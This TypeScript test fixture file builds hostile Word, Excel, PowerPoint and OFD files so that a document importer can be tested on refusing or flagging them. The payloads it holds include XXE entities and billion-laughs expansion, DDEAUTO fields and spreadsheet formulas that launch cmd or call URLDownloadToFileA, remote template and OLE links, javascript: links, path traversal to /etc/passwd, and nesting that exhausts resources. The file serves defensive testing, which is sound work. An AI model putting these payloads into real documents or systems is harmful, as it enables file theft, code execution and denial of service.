import {
  contentTypes,
  coreProperties,
  docxFile,
  docxParts,
  inlineCell,
  ofdFile,
  ofdText,
  paragraph,
  partsFile,
  pptxFile,
  rels,
  slideXml,
  wordXml,
  xlsxFile,
} from '../office.fixtures.ts';
import type { Bait, HostileCase } from './hostile-case.fixtures.ts';

const laughs = (count: number) =>
  `<!DOCTYPE l [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">${Array.from({ length: count }, (_, index) => `<!ENTITY ${String.fromCharCode(98 + index)} "${`&${String.fromCharCode(97 + index)};`.repeat(10)}">`).join('')}]>`;
const sheet = (cells: string, before = '') =>
  xlsxFile([{ name: '表', xml: `${before}<sheetData>${cells}</sheetData>` }]);
const row = (cells: string) => `<row r="1">${cells}</row>`;
const nest = (open: string, close: string, times: number, inner = '文') =>
  open.repeat(times) + inner + close.repeat(times);
const relation = (type: string, target: string) => ({
  'word/_rels/document.xml.rels': rels([{ id: 'x', type, target, external: true }]),
});
const MACRO = 'application/vnd.ms-word.document.macroEnabled.main+xml';

/** Document types of every kind, wherever XML is read. */
function entityCases({ file, web }: Bait): HostileCase[] {
  const read = `<!DOCTYPE w [<!ENTITY x SYSTEM "${file}">]>`;
  const visit = `<!DOCTYPE w SYSTEM "${web}/evil.dtd">`;
  const parameter = `<!DOCTYPE w [<!ENTITY % p SYSTEM "${web}/p.dtd">%p;]>`;
  const doc =
    (doctype: string, body = paragraph('&x;')) =>
    () =>
      partsFile({ ...docxParts(''), 'word/document.xml': wordXml(body, doctype) });
  const part = (name: string, xml: string) => () => docxFile(paragraph('文'), { [name]: xml });
  const one = (
    what: string,
    make: () => Buffer,
    name = 'a.docx',
    also: HostileCase['also'] = ['import', 'clean'],
  ): HostileCase => ({ what, name, file: make, refused: 'doctype', also });
  return [
    one('an entity that reads a file, in the text', doc(read)),
    one('an entity that visits a server, in the text', doc(`<!DOCTYPE w [<!ENTITY x SYSTEM "${web}/x">]>`)),
    one('a document type from a server', doc(visit)),
    one('a parameter entity', doc(parameter)),
    one('a billion laughs in the text', doc(laughs(9), paragraph('&j;'))),
    one(
      'one long entity used often',
      doc(`<!DOCTYPE w [<!ENTITY x "${'长'.repeat(50_000)}">]>`, paragraph('&x;'.repeat(20_000))),
    ),
    one('a document type in UTF-16', () =>
      partsFile({
        ...docxParts(''),
        'word/document.xml': Buffer.from(`\ufeff${wordXml(paragraph('&x;'), read)}`, 'utf16le'),
      }),
    ),
    one('a document type after a long comment', doc(`<!--${'x'.repeat(200_000)}-->${read}`)),
    one('a document type in small letters', doc(read.toLowerCase())),
    one(
      'an entity in the header',
      part('word/header1.xml', `${read}<w:hdr xmlns:w="x"><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:hdr>`),
    ),
    one(
      'an entity in the comments',
      part('word/comments.xml', `${read}<w:comments xmlns:w="x"><w:comment><w:t>&x;</w:t></w:comment></w:comments>`),
    ),
    one(
      'an entity in the properties',
      part('docProps/core.xml', coreProperties('&x;').replace('<cp:', `${read}<cp:`)),
      'a.docx',
      ['clean'],
    ),
    one(
      'an entity in the list of types',
      part('[Content_Types].xml', contentTypes().replace('<Types', `${read}<Types`)),
    ),
    one(
      'an entity in the relations',
      part(
        'word/_rels/document.xml.rels',
        rels([{ id: 'a', type: 'image', target: '&x;' }]).replace('<Rel', `${visit}<Rel`),
      ),
    ),
    one('an entity in a part that nobody reads', part('word/theme/theme1.xml', `${read}<a:theme>&x;</a:theme>`)),
    one('an entity in the styles', part('word/styles.xml', `${read}<w:styles xmlns:w="x"/>`)),
    one(
      'an entity in a sheet',
      () =>
        xlsxFile([{ name: '表', xml: '' }], {
          'xl/worksheets/sheet1.xml': `${read}<worksheet><sheetData>${row(inlineCell('A1', '&x;'))}</sheetData></worksheet>`,
        }),
      'a.xlsx',
      ['preview', 'clean'],
    ),
    one(
      'a billion laughs in the shared strings',
      () =>
        xlsxFile([{ name: '表', xml: '' }], { 'xl/sharedStrings.xml': `${laughs(9)}<sst><si><t>&j;</t></si></sst>` }),
      'a.xlsx',
      ['preview'],
    ),
    one('an entity in a slide', () => pptxFile([`${read}${slideXml('&x;')}`]), 'a.pptx', ['preview']),
    one('an entity in OFD.xml', () => ofdFile({ doctype: read, info: '<ofd:Author>&x;</ofd:Author>' }), 'a.ofd', [
      'preview',
    ]),
    one(
      'an entity in a page of OFD',
      () =>
        ofdFile(
          {},
          { 'Doc_0/Pages/Page_0/Content.xml': `${read}<ofd:Page xmlns:ofd="x">${ofdText('&x;')}</ofd:Page>` },
        ),
      'a.ofd',
    ),
  ];
}

/** What runs, fetches or carries. */
function activeCases({ web, file }: Bait): HostileCase[] {
  const word = (what: string, body: string, expected: Partial<HostileCase>, more = {}): HostileCase => ({
    what,
    name: 'a.docx',
    file: () => docxFile(body, more),
    also: ['import', 'clean'],
    ...expected,
  });
  const field = (text: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${text}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  return [
    word(
      'macros in a file that calls itself docx',
      paragraph('文'),
      { refused: 'macro' },
      { 'word/vbaProject.bin': 'x' },
    ),
    word(
      'a type that says macros',
      paragraph('文'),
      { refused: 'macro' },
      { '[Content_Types].xml': contentTypes({ 'word/document.xml': MACRO }) },
    ),
    word('macros under another folder', paragraph('文'), { refused: 'macro' }, { 'word/x/VBAPROJECT.BIN': 'x' }),
    {
      what: 'macros in a workbook',
      name: 'a.xlsx',
      file: () => xlsxFile([{ name: '表', xml: '' }], { 'xl/vbaProject.bin': 'x' }),
      refused: 'macro',
      also: ['preview', 'clean'],
    },
    {
      what: 'a macro sheet of 1992',
      name: 'a.xlsx',
      file: () => xlsxFile([{ name: '表', xml: '' }], { 'xl/macrosheets/sheet1.xml': '<x/>' }),
      refused: 'macro',
    },
    word(
      'a picture that is fetched',
      paragraph('文'),
      { hidden: 'externalLink' },
      relation('image', `${web}/track.png`),
    ),
    word(
      'a template that is fetched',
      paragraph('文'),
      { hidden: 'externalLink' },
      relation('attachedTemplate', `${web}/t.dotm`),
    ),
    word(
      'an object that is fetched',
      paragraph('文'),
      { hidden: 'externalLink' },
      relation('oleObject', `mhtml:${web}/x!x-usc:${web}/x`),
    ),
    word('a frame that is fetched', paragraph('文'), { hidden: 'externalLink' }, relation('frame', `${web}/f.html`)),
    word(
      'a share of a Windows network',
      paragraph('文'),
      { hidden: 'externalLink' },
      relation('image', '\\\\10.0.0.1\\share\\x.png'),
    ),
    word(
      'a picture that is a local file',
      `<w:p><w:r><w:drawing><a:blip r:embed="x"/></w:drawing></w:r></w:p>${paragraph('文')}`,
      { hidden: 'externalLink' },
      relation('image', file),
    ),
    word(
      'a link that runs a script',
      `<w:p><w:hyperlink r:id="x"><w:r><w:t>点我</w:t></w:r></w:hyperlink></w:p>`,
      { hidden: 'script' },
      relation('hyperlink', 'javascript:alert(1)'),
    ),
    word(
      'an inner part that climbs out',
      paragraph('文'),
      { hidden: 'externalLink' },
      { 'word/_rels/document.xml.rels': rels([{ id: 'x', type: 'image', target: '../../../../etc/passwd' }]) },
    ),
    word('a field that starts a program', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), {
      refused: 'active-field',
    }),
    word('such a field cut into pieces', field('DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd "/k calc"'), {
      refused: 'active-field',
    }),
    word('such a field in short form', '<w:p><w:fldSimple w:instr=" DDE cmd /k"/></w:p>', { refused: 'active-field' }),
    word(
      'a field without an end',
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "${file}"</w:instrText></w:r></w:p>`,
      { hidden: 'externalLink' },
    ),
    word('a control', paragraph('文'), { hidden: 'script' }, { 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="x"/>' }),
    word(
      'a web page as a part',
      `<w:altChunk r:id="x"/>${paragraph('文')}`,
      { text: '文' },
      { 'word/afchunk.htm': '<script>alert(1)</script>' },
    ),
    {
      what: 'a formula that starts a program',
      name: 'a.xlsx',
      file: () => sheet(row(`<c r="A1"><f>cmd|'/c calc'!A1</f><v>0</v></c>`)),
      refused: 'active-formula',
      also: ['preview', 'clean'],
    },
    {
      what: 'the same as a text',
      name: 'a.xlsx',
      file: () => sheet(row(inlineCell('A1', "=cmd|'/c calc'!A1"))),
      refused: 'active-formula',
    },
    {
      what: 'a formula that calls a library',
      name: 'a.xlsx',
      file: () => sheet(row('<c r="A1"><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)</f></c>')),
      refused: 'active-formula',
    },
    {
      what: 'a formula that fetches',
      name: 'a.xlsx',
      file: () => sheet(row(`<c r="A1"><f>WEBSERVICE("${web}/x")</f></c>`)),
      hidden: 'externalLink',
      also: ['preview'],
    },
    {
      what: 'a connection to a database',
      name: 'a.xlsx',
      file: () =>
        xlsxFile([{ name: '表', xml: '' }], {
          'xl/connections.xml': `<connections><connection name="${web}"/></connections>`,
        }),
      hidden: 'externalLink',
    },
  ];
}

/** Structures that exhaust or confuse. */
function twistedCases(): HostileCase[] {
  const word = (what: string, body: string, expected: Partial<HostileCase>, more = {}): HostileCase => ({
    what,
    name: 'a.docx',
    file: () => docxFile(body, more),
    also: ['import', 'clean'],
    ...expected,
  });
  const cell = (properties: string) => `<w:tc><w:tcPr>${properties}</w:tcPr>${paragraph('格')}</w:tc>`;
  return [
    word('tables in tables, 50,000 deep', nest('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', 50_000), {
      refused: 'too-deep',
    }),
    word('tables in tables, 200 deep', nest('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', 200, paragraph('文')), {
      text: '文',
    }),
    word('elements never closed', '<w:p><w:r>'.repeat(100_000), { refused: 'too-deep' }),
    word(
      'an element with 100,000 attributes',
      `<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}="x"`).join(' ')}>${'文'}</w:p>`,
      { refused: 'too-deep' },
    ),
    word('a million empty paragraphs', `${'<w:p/>'.repeat(1_000_000)}${paragraph('文')}`, { text: '文' }),
    word('a paragraph of five million letters', paragraph('公'.repeat(5_000_000)), { refused: 'text-cut' }),
    word('a million runs', `<w:p>${'<w:r><w:t>公</w:t></w:r>'.repeat(300_000)}</w:p>`, { text: '公公' }),
    word('a cell as wide as a billion', `<w:tbl><w:tr>${cell('<w:gridSpan w:val="1000000000"/>')}</w:tr></w:tbl>`, {
      text: '格',
    }),
    word(
      'cells that go on from nothing',
      `<w:tbl><w:tr>${cell('<w:vMerge/>')}${cell('<w:vMerge w:val="continue"/>')}</w:tr></w:tbl>`,
      { text: '格' },
    ),
    word('a negative width', `<w:tbl><w:tr>${cell('<w:gridSpan w:val="-5"/>')}</w:tr></w:tbl>`, { text: '格' }),
    word(
      'a style based on itself',
      paragraph('文', '<w:pPr><w:pStyle w:val="a"/></w:pPr>'),
      { text: '文' },
      {
        'word/styles.xml':
          '<w:styles xmlns:w="x"><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
      },
    ),
    word(
      'a list level that names itself',
      paragraph('文', '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'),
      { text: '文' },
      {
        'word/numbering.xml':
          '<w:numbering xmlns:w="x"><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="999999999"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%1%1%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>',
      },
    ),
    word(
      'a list level of minus one',
      paragraph('文', '<w:pPr><w:numPr><w:ilvl w:val="-1"/><w:numId w:val="99999999999"/></w:numPr></w:pPr>'),
      { text: '文' },
    ),
    word(
      'a hundred thousand comments',
      paragraph('文'),
      { hidden: 'comment' },
      {
        'word/comments.xml': `<w:comments xmlns:w="x">${'<w:comment w:author="a"><w:t>批</w:t></w:comment>'.repeat(100_000)}</w:comments>`,
      },
    ),
    word(
      'a hundred thousand changes',
      `<w:p>${'<w:ins w:author="a"><w:r><w:t>改</w:t></w:r></w:ins>'.repeat(100_000)}</w:p>`,
      { hidden: 'trackedChange' },
    ),
    word('half characters and characters that XML forbids', paragraph('前&#xD800;&#0;&#xFFFF;后'), { text: '前' }),
    {
      what: 'a body that is not there',
      name: 'a.docx',
      file: () => partsFile({ ...docxParts(''), 'word/document.xml': '' }),
      refused: 'broken',
      also: ['import', 'clean'],
    },
    {
      what: 'a body of noise',
      name: 'a.docx',
      file: () =>
        partsFile({
          ...docxParts(''),
          'word/document.xml': Buffer.from(Array.from({ length: 5000 }, (_, index) => (index * 7919) % 256)),
        }),
      refused: 'broken',
      also: ['import', 'clean'],
    },
    {
      what: 'a body that is a web page',
      name: 'a.docx',
      file: () => partsFile({ ...docxParts(''), 'word/document.xml': '<html><script>alert(1)</script></html>' }),
      refused: 'broken',
      also: ['import'],
    },
    {
      what: 'a far cell',
      name: 'a.xlsx',
      file: () => sheet(`<row r="1048576">${inlineCell('XFD1048576', '远')}</row>`),
      text: '远',
      also: ['preview'],
    },
    {
      what: 'rows of no number',
      name: 'a.xlsx',
      file: () => sheet(`<row r="-1">${inlineCell('A-1', '甲')}</row><row r="x">${inlineCell('??', '乙')}</row>`),
      text: '乙',
      also: ['preview'],
    },
    {
      what: 'a text that is not there',
      name: 'a.xlsx',
      file: () =>
        sheet(row('<c r="A1" t="s"><v>999999999</v></c><c r="B1" t="s"><v>-1</v></c><c r="C1"><v>1e999</v></c>')),
      text: '1e999',
      also: ['preview'],
    },
    {
      what: 'a join over everything',
      name: 'a.xlsx',
      file: () =>
        xlsxFile([
          {
            name: '表',
            xml: `<sheetData>${row(inlineCell('A1', '甲'))}</sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(5000)}</mergeCells>`,
          },
        ]),
      text: '甲',
      also: ['preview'],
    },
    {
      what: 'columns hidden a thousand times',
      name: 'a.xlsx',
      file: () =>
        sheet(row(inlineCell('A1', '甲')), `<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(1000)}</cols>`),
      hidden: 'hiddenColumn',
      also: ['preview'],
    },
    {
      what: 'half a million cells',
      name: 'a.xlsx',
      file: () =>
        sheet(
          Array.from(
            { length: 50_000 },
            (_, index) => `<row r="${index + 1}">${'<c t="str"><v>甲</v></c>'.repeat(10)}</row>`,
          ).join(''),
        ),
      text: '甲',
      also: ['preview'],
    },
    {
      what: 'a workbook without sheets',
      name: 'a.xlsx',
      file: () => xlsxFile([]),
      refused: 'broken',
      also: ['preview'],
    },
    {
      what: 'a sheet that lies elsewhere',
      name: 'a.xlsx',
      file: () =>
        xlsxFile([{ name: '表', xml: '' }], {
          'xl/_rels/workbook.xml.rels': rels([{ id: 'r1', type: 'worksheet', target: '../../../../../etc/passwd' }]),
        }),
      hidden: 'externalLink',
      also: ['preview'],
    },
    {
      what: 'an OFD page that lies elsewhere',
      name: 'a.ofd',
      file: () =>
        ofdFile({
          content: ofdText('公开'),
          document: '<ofd:Pages><ofd:Page BaseLoc="../../../../etc/passwd"/></ofd:Pages>',
        }),
      text: '公开',
      also: ['preview'],
    },
    {
      what: 'an OFD without pages',
      name: 'a.ofd',
      file: () => ofdFile({}, { 'Doc_0/Document.xml': '<ofd:Document xmlns:ofd="x"/>' }),
      refused: 'broken',
      also: ['preview'],
    },
    {
      what: 'an OFD of itself',
      name: 'a.ofd',
      file: () =>
        ofdFile(
          {},
          {
            'Doc_0/Document.xml':
              '<ofd:Document xmlns:ofd="x"><ofd:Page BaseLoc="Document.xml"/><ofd:Attachments>Document.xml</ofd:Attachments></ofd:Document>',
          },
        ),
      text: '',
      also: ['preview'],
    },
    {
      what: 'OFD objects nested 50,000 deep',
      name: 'a.ofd',
      file: () => ofdFile({ content: nest('<ofd:PageBlock>', '</ofd:PageBlock>', 50_000, ofdText('文')) }),
      refused: 'too-deep',
    },
    {
      what: 'an OFD with 20,000 boxes over 20,000 words',
      name: 'a.ofd',
      file: () =>
        ofdFile({
          content: ofdText('字').repeat(20_000) + '<ofd:PathObject Boundary="0 0 210 297" Fill="true"/>'.repeat(20_000),
        }),
      hidden: 'textUnderBox',
    },
  ];
}

export const officeCases = (bait: Bait): readonly HostileCase[] => [
  ...entityCases(bait),
  ...activeCases(bait),
  ...twistedCases(),
];
